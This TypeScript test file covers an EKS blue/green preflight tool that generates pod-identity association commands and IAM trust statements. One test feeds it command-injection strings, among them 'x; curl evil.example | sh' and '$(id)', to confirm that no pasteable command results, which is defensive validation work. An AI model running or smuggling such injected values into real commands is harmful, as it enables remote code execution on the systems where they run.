import { identityGaps, type ServiceAccount } from '../../../../lib/shift/preflight/identities';
import { preflight } from '../../../../lib/shift/preflight/preflight';
import { ready, seen, staging } from './fixture';

const role = 'arn:aws:iam::222222222222:role/shop-api';
const account = (namespace: string, name: string, roleArn?: string): ServiceAccount => ({ namespace, name, ...(roleArn && { roleArn }) });
const sources = ready.identitySources.ok ? ready.identitySources.value : undefined;
if (!sources) throw new Error('the fixture sees its identities');

test('an account with a role on blue and nothing on green: the association, and both trust statements, ready to paste', () => {
  expect(identityGaps([account('shop', 'api', role)], [account('shop', 'api')], sources)).toEqual([
    {
      namespace: 'shop',
      serviceAccount: 'api',
      roleArn: role,
      kind: 'none',
      association:
        'aws eks create-pod-identity-association --cluster-name staging-green --namespace shop --service-account api ' +
        '--role-arn arn:aws:iam::222222222222:role/shop-api',
      podIdentityTrust: {
        Effect: 'Allow',
        Principal: { Service: 'pods.eks.amazonaws.com' },
        Action: ['sts:AssumeRole', 'sts:TagSession'],
        Condition: {
          StringEquals: { 'aws:SourceAccount': '222222222222' },
          ArnEquals: { 'aws:SourceArn': 'arn:aws:eks:eu-west-1:222222222222:cluster/staging-green' },
        },
      },
      issuerTrust: {
        Effect: 'Allow',
        Principal: { Federated: 'arn:aws:iam::222222222222:oidc-provider/oidc.eks.eu-west-1.amazonaws.com/id/GREEN' },
        Action: 'sts:AssumeRoleWithWebIdentity',
        Condition: {
          StringEquals: {
            'oidc.eks.eu-west-1.amazonaws.com/id/GREEN:aud': 'sts.amazonaws.com',
            'oidc.eks.eu-west-1.amazonaws.com/id/GREEN:sub': 'system:serviceaccount:shop:api',
          },
        },
      },
    },
  ]);
});

test.each(['x; curl evil.example | sh', '$(id)', `${role}\n`, `${role}';id'`, 'arn:aws:iam::*:role/x', '\u001b[2K'])(
  'an annotation that names no role makes no command to paste: %j',
  (text) => {
    expect(identityGaps([account('shop', 'api', text)], [account('shop', 'api')], sources)).toEqual([]);
  },
);

test('an account in a namespace that `identities` cannot name gets the association alone', () => {
  const todoOf = (namespace: string, name: string) => {
    const observed = { ...ready, serviceAccounts: { blue: seen([account(namespace, name, role)]), green: seen([]) } };
    return preflight(staging, 'green', observed).checks.find((check) => check.name === `identities: ${namespace}/${name}`)?.todo;
  };
  expect(todoOf('default', 'api')).toMatch(/^`aws eks create-pod-identity-association/);
  expect(todoOf('external-secrets', 'external-secrets')).toMatch(/^identities: /);
});

test('no gap: an association, an account without a role, an account of the platform', () => {
  const associated = { ...sources, associations: [{ namespace: 'shop', serviceAccount: 'api' }] };
  const old = [account('shop', 'api', role), account('shop', 'web'), account('kube-system', 'ebs-csi', role)];
  expect(identityGaps(old, [], associated)).toEqual([]);
});

test.each([
  ['a service’s namespace', 'shop', [], 'block', /nothing on green/],
  ['another namespace', 'batch', [], 'warn', /nothing on green/],
  ['an annotation on green too', 'shop', [account('shop', 'api', role)], 'warn', /cannot be read from here/],
])('preflight: %s', (_, namespace, green, verdict, found) => {
  const observed = { ...ready, serviceAccounts: { blue: seen([account(namespace, 'api', role)]), green: seen(green) } };
  const check = preflight(staging, 'green', observed).checks.find(({ name }) => name === `identities: ${namespace}/api`);
  expect(check).toMatchObject({
    verdict,
    found: expect.stringMatching(found),
    todo: expect.stringContaining('oidc-provider/oidc.eks.eu-west-1'),
  });
});

test('preflight: nothing to add is one line', () => {
  const checks = preflight(staging, 'green', ready).checks.filter(({ name }) => name.startsWith('identities'));
  expect(checks).toMatchObject([{ name: 'identities', verdict: 'ok' }]);
});
